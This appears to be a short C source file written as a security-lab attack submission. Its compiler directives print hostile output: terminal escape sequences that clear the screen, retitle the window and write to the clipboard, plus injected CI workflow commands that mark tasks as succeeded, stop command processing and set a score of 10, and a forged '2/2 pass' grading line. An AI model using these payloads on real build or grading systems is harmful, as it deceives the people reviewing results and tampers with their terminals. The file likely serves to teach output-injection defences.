/*
 * attack: The program that is printed has the compiler say escapes, commands of CI systems and verdicts.
 * lab: lab8
 * earns: 8.1 8.2 8.3 8.4 8.5 8.8
 */
{{ "\x1b]0;owned\x07\x1b[2J\x9b31m" }}
#pragma message("\n::error file=a.py,line=1::pwned\n##vso[task.complete result=Succeeded]\n")
#pragma message("\x1b[2J\x1b]52;c;b3duZWQ=\x07\r8.6   2/2  pass\n")
#line 1 "\n::stop-commands::x\n/etc/passwd"
#warning {{ "\r" }}::set-output name=score::10
#error {{ "\x1b[8m" }}section_start:1:a
